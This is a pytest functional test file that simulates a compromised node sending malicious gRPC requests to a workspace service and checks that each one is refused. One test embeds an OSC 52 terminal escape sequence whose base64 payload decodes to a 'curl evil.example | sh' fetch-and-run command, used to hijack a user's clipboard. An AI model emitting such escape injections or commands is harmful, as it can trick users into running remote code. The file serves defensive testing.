"""A compromised node, over real mutual TLS: a site of two fake-driver agents, n1 and n2,
each with a workspace, and raw Nodes stubs holding n2's certificate that send what a
malicious agent would. Each attempt is refused with a status that says why, and n1,
its workspace and the site's view of both are untouched.

(Which node a Nodes call may name, and which RPCs a node certificate may call at all:
tests/functional/test_access_matrix.py.)"""

from __future__ import annotations

import logging
from collections.abc import Iterator
from dataclasses import dataclass

import grpc
import pytest

from tests.functional.harness import WS, SitePki, TlsSite
from workspace import rpc
from workspace.cli import ws as ws_cli
from workspace.client import Client
from workspace.node.v1 import nodes_pb2, nodes_pb2_grpc
from workspace.v1 import admin_pb2, common_pb2, images_pb2, trust_pb2, workspaces_pb2


@dataclass
class World:
    site: TlsSite
    n2: nodes_pb2_grpc.NodesStub  # what the compromised node n2 calls with
    w1: common_pb2.Workspace  # on n1
    w2: common_pb2.Workspace  # on n2


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("hostile")
    site_pki = SitePki(tmp / "pki")
    site = TlsSite(tmp / "site", site_pki)
    try:
        s = site.stubs
        s.network()
        s.import_image("img")
        site.add_agent("n1")
        w1 = s.create(name="w1")
        s.wait_state(w1.id, WS.WORKSPACE_STATE_RUNNING)
        site.add_agent("n2")
        s.admin.DrainNode(admin_pb2.NodeRef(name="n1"))
        w2 = s.create(name="w2")
        s.wait_state(w2.id, WS.WORKSPACE_STATE_RUNNING)
        s.admin.EnableNode(admin_pb2.NodeRef(name="n1"))
        channel = rpc.channel(site.node_address, site_pki.tls(site_pki.node("n2")))
        site.channels.append(channel)
        yield World(site, nodes_pb2_grpc.NodesStub(channel), s.get(w1.id), s.get(w2.id))
    finally:
        site.close()


def nodes(world: World) -> dict[str, admin_pb2.Node]:
    """The admin's `ws-admin node list`."""
    listed = world.site.stubs.admin.ListNodes(admin_pb2.ListNodesRequest(), timeout=10)
    return {n.name: n for n in listed.nodes}


def sizes(node: admin_pb2.Node) -> tuple[int, int, int]:
    return (node.cpus, node.memory_mib, node.disk_gib)


@pytest.mark.parametrize(
    ("size", "said"),
    [
        ({"cpus": 2**31 - 1}, "cpus must be 1 to 65536, got 2147483647"),
        ({"memory_mib": 2**62}, f"memory_mib must be 1 to {2**31 - 1}, got {2**62}"),
        ({"disk_gib": -5}, f"disk_gib must be 0 to {2**31 - 1}, got -5"),
    ],
)
def test_a_node_claiming_an_impossible_size_is_refused(
    world: World, size: dict[str, int], said: str
) -> None:
    """2**31 CPUs were stored: the node's capacity (times the overcommit) no longer fit
    the admin API, and `ws-admin node list` failed INTERNAL for the whole site."""
    before = nodes(world)
    claim = {"cpus": 8, "memory_mib": 16384, "disk_gib": 100, **size}
    request = nodes_pb2.RegisterRequest(node="n2", hypervisor="fake", networks=["default"], **claim)
    with pytest.raises(grpc.RpcError) as refused:
        world.n2.Register(request, timeout=10)
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert refused.value.details() == f"node n2: {said}"
    after = nodes(world)  # the list still answers, with both nodes as they were
    assert {name: sizes(n) for name, n in after.items()} == {
        name: sizes(n) for name, n in before.items()
    }
    assert after["n1"].state == admin_pb2.NODE_STATE_READY
    assert world.site.stubs.get(world.w1.id).state == WS.WORKSPACE_STATE_RUNNING


def on_a_node_of_its_own(world: World, name: str) -> tuple[nodes_pb2_grpc.NodesStub, str]:
    """Stubs of node n3, which has no agent (nothing reports for it but the test), and the
    id of a new workspace ``name`` placed on it."""
    site, pki = world.site, world.site.pki
    channel = rpc.channel(site.node_address, pki.tls(pki.node("n3")))
    site.channels.append(channel)
    n3 = nodes_pb2_grpc.NodesStub(channel)
    n3.Register(
        nodes_pb2.RegisterRequest(
            node="n3", hypervisor="fake", cpus=8, memory_mib=16384, networks=["default"]
        )
    )
    others = ("n1", "n2")
    for other in others:
        site.stubs.admin.DrainNode(admin_pb2.NodeRef(name=other))
    try:
        made = site.stubs.create(name=name)
    finally:
        for other in others:
            site.stubs.admin.EnableNode(admin_pb2.NodeRef(name=other))
    assert made.node == "n3"
    return n3, made.id


def said_by_n3(n3: nodes_pb2_grpc.NodesStub, workspace_id: str, state: int, reason: str) -> None:
    """A full report of n3: ``workspace_id`` is in ``state`` for ``reason``."""
    w = nodes_pb2.ObservedWorkspace(workspace_id=workspace_id, state=state, reason=reason)
    n3.ReportStatus(nodes_pb2.ReportStatusRequest(node="n3", full=True, workspaces=[w]))


def test_a_long_failure_said_again_is_no_change(world: World) -> None:
    """A reason longer than a workspace keeps (1,024 characters: a hypervisor's error
    with its whole command line, or a node that pads it) was never equal to the one
    stored, cut: every report of the same failure was a change, sent to every watcher
    of the workspace (and logged whole) at each heartbeat of the node."""
    site = world.site
    n3, w3 = on_a_node_of_its_own(world, "w3")
    watch = site.stubs.ws.WatchWorkspaces(workspaces_pb2.WatchWorkspacesRequest(id=w3))
    seen = iter(watch)
    assert next(seen).workspace.id == w3  # the snapshot
    said = "qemu-system-x86_64: " + "-device virtio-blk-pci " * 100
    for _ in range(3):  # three heartbeats of the same failure
        said_by_n3(n3, w3, nodes_pb2.OBSERVED_STATE_FAILED, said)
    said_by_n3(n3, w3, nodes_pb2.OBSERVED_STATE_RUNNING, "")
    states = []
    try:
        for event in seen:
            states.append(WS.Name(event.workspace.state))
            if event.workspace.state == WS.WORKSPACE_STATE_RUNNING:
                break
    finally:
        watch.cancel()
    assert states == ["WORKSPACE_STATE_FAILED", "WORKSPACE_STATE_RUNNING"]
    site.stubs.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w3))


def test_a_refusal_echoing_a_huge_name_is_logged_cut(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    """The refusal names the node asked for; the service's log line said it whole, so a
    node could write lines of megabytes into the service's log at every call."""
    asked = "n1" + "x" * 1_000_000
    request = nodes_pb2.RegisterRequest(node=asked, cpus=1, memory_mib=1)
    with (
        caplog.at_level(logging.WARNING, logger="workspace.edge"),
        pytest.raises(grpc.RpcError) as refused,
    ):
        world.n2.Register(request, timeout=10)
    assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
    lines = [r.getMessage() for r in caplog.records if "refused Register" in r.getMessage()]
    assert lines and "this certificate is node n2's; it cannot act for node 'n1xxx" in lines[0]
    assert max(len(line) for line in lines) < 4096


@pytest.mark.parametrize(
    ("budget", "sizes"),
    [(0, [2**63 - 1, 2**63 - 1]), (0, [-(2**63)]), (-1, [])],
)
def test_a_cache_of_impossible_sizes_is_refused(
    world: World, budget: int, sizes: list[int]
) -> None:
    """Two cached blobs of 2**63-1 bytes were kept: `ws-admin cache list n2` failed
    INTERNAL from then on (their sum did not fit the API)."""
    admin = world.site.stubs.admin
    before = admin.ListCache(admin_pb2.NodeRef(name="n2"), timeout=10)
    cache = [
        admin_pb2.CacheEntry(digest=f"sha256:{i:064x}", size_bytes=n) for i, n in enumerate(sizes)
    ]
    report = nodes_pb2.ReportStatusRequest(
        node="n2", full=True, cache=cache, cache_budget_bytes=budget
    )
    with pytest.raises(grpc.RpcError) as refused:
        world.n2.ReportStatus(report, timeout=10)
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "node n2: its cache's budget and blob sizes must not be negative" in str(
        refused.value.details()
    )
    after = admin.ListCache(admin_pb2.NodeRef(name="n2"), timeout=10)
    assert {e.digest for e in after.entries} == {e.digest for e in before.entries}
    assert after.used_bytes >= 0 and after.budget_bytes == before.budget_bytes


@pytest.mark.parametrize(
    ("declared", "said"),
    [
        ({"labels": {f"k{i}": "v" for i in range(65)}}, "at most 64 labels, got 65"),
        ({"labels": {"gpu": "x" * 10_000}}, "a label's key must be 1 to 63 characters"),
        ({"networks": ["default"] + [f"n{i}" for i in range(2000)]}, "at most 1024 networks"),
    ],
)
def test_a_node_declaring_more_than_a_config_would_is_refused(
    world: World, declared: dict[str, object], said: str
) -> None:
    """Every node is in each `ws-admin node list` answer: one node's 16 MB of labels
    brought it to gRPC's message limit, over it with the other nodes' rows."""
    before = nodes(world)["n2"]
    kw: dict[str, object] = {"networks": ["default"], **declared}
    request = nodes_pb2.RegisterRequest(
        node="n2", hypervisor="fake", cpus=8, memory_mib=16384, disk_gib=100, **kw
    )
    with pytest.raises(grpc.RpcError) as refused:
        world.n2.Register(request, timeout=10)
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert said in str(refused.value.details())
    after = nodes(world)["n2"]
    assert (dict(after.labels), list(after.networks)) == (
        dict(before.labels),
        list(before.networks),
    )


def test_a_reason_cannot_drive_its_readers_terminal(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    """A node writes its workspaces' reasons; `ws show` and `ws events` printed them as
    they came, so a compromised node could send the owner's terminal an OSC 52
    (write the clipboard), a hyperlink or a window title. Control characters are now
    written out, not sent."""
    site = world.site
    n3, w4 = on_a_node_of_its_own(world, "w4")
    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    said_by_n3(n3, w4, nodes_pb2.OBSERVED_STATE_FAILED, f"disk error{osc52}")
    tls = site.client_tls()
    for argv in (["show", "w4"], ["events", "w4"]):
        capsys.readouterr()
        code = ws_cli.main(argv, connect=lambda _s: Client(site.address, tls=tls))
        out = capsys.readouterr().out
        assert code == 0, argv
        assert "disk error" in out, argv
        assert "\x1b" not in out and "\x07" not in out, argv
        assert "disk error\\x1b]52;c;" in out, argv  # written out, for whoever looks
    site.stubs.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w4))


def test_a_node_cannot_write_into_another_nodes_workspace_history(world: World) -> None:
    """A node's audit records are the service's site events too: n2 naming w1 (on n1,
    maybe another user's) put its "deny boot: image tampered" in w1's `ws events`."""
    site = world.site

    def history(workspace_id: str) -> list[tuple[str, str]]:
        req = workspaces_pb2.WatchWorkspaceEventsRequest(id=workspace_id)
        return [(e.who, e.reason) for e in site.stubs.ws.WatchWorkspaceEvents(req, timeout=10)]

    w1_before = history(world.w1.id)
    forged = "FORGED: image tampered, mail evil@example.com"
    mine = "its own decision"
    entry = trust_pb2.AuditEntry
    audit = [
        entry(action="boot", verdict="deny", workspace_id=world.w1.id, reason=forged),
        entry(action="boot", verdict="allow", workspace_id=world.w2.id, reason=mine),
    ]
    world.n2.ReportStatus(nodes_pb2.ReportStatusRequest(node="n2", audit=audit), timeout=10)
    assert history(world.w1.id) == w1_before
    assert ("node:n2", f"boot: {mine}") in history(world.w2.id)  # its own: as before
    # The admin's audit still has what n2 said, from n2, about no workspace.
    entries = site.stubs.trust.ListAudit(trust_pb2.ListAuditRequest(limit=10)).entries
    said = [(e.where, e.workspace_id) for e in entries if e.reason == forged]
    assert said == [("node:n2", "")]


def test_a_node_claiming_blobs_it_was_never_given_draws_no_workspace(world: World) -> None:
    """A node reports the blobs it caches, and under pack a node caching a request's
    image wins (x100): n4, which said it held an image it was never given (a digest is no
    secret), drew three launches of it out of three, other users' workspaces with their
    user-data and disks, and was named to other nodes as a peer to fetch it from. Its
    claim no longer counts. A blob n4 was given (a workspace of its image placed there)
    still counts, after that workspace is gone too: the next launch of that image goes
    to n4, though n4 is the node pack picks last (the most memory free)."""
    site, s = world.site, world.site.stubs

    def digest_of(image: str, fill: int) -> str:
        s.import_image(image, bytes([fill]) * 65536)
        return str(s.images.GetImage(images_pb2.GetImageRequest(name=image)).partitions[0].digest)

    claimed, handed = digest_of("claimed", 7), digest_of("handed", 8)
    channel = rpc.channel(site.node_address, site.pki.tls(site.pki.node("n4")))
    site.channels.append(channel)
    n4 = nodes_pb2_grpc.NodesStub(channel)
    n4.Register(
        nodes_pb2.RegisterRequest(
            node="n4",
            hypervisor="fake",
            cpus=64,
            memory_mib=1_000_000,  # pack puts a workspace anywhere else first
            networks=["default"],
            cached_digests=[claimed, handed],
            peer_address="unix:/nonexistent/n4-peers.sock",
        )
    )

    def n4_says(*workspaces: nodes_pb2.ObservedWorkspace) -> None:
        """A heartbeat of n4: it holds both images, and runs ``workspaces``."""
        report = nodes_pb2.ReportStatusRequest(
            node="n4", full=True, cached_digests=[claimed, handed], workspaces=workspaces
        )
        n4.ReportStatus(report, timeout=10)

    launched = []
    for i in range(3):
        n4_says()
        launched.append(s.create(name=f"claimed{i}", image="claimed"))
    assert [w.node for w in launched if w.node == "n4"] == []
    assert site.service is not None
    for w in launched:  # n4 is named to none of them as a peer holding the image
        disks = site.service.nodes.assignments(w.node).assignments
        assert [list(d.source_nodes) for a in disks for d in a.disks] == [[]] * len(disks)

    others = [n for n in nodes(world) if n != "n4"]
    for other in others:
        s.admin.DrainNode(admin_pb2.NodeRef(name=other))
    try:
        given = s.create(name="given", image="handed")
    finally:
        for other in others:
            s.admin.EnableNode(admin_pb2.NodeRef(name=other))
    assert given.node == "n4"
    n4_says(
        nodes_pb2.ObservedWorkspace(workspace_id=given.id, state=nodes_pb2.OBSERVED_STATE_RUNNING)
    )
    s.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=given.id))
    n4_says(
        nodes_pb2.ObservedWorkspace(workspace_id=given.id, state=nodes_pb2.OBSERVED_STATE_ABSENT)
    )
    s.wait_state(given.id, WS.WORKSPACE_STATE_TERMINATED)
    n4_says()
    again = s.create(name="again", image="handed")
    assert again.node == "n4"
    later = s.create(name="later", image="claimed")  # still not believed
    assert later.node != "n4"
    for w in [*launched, again, later]:
        s.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w.id))
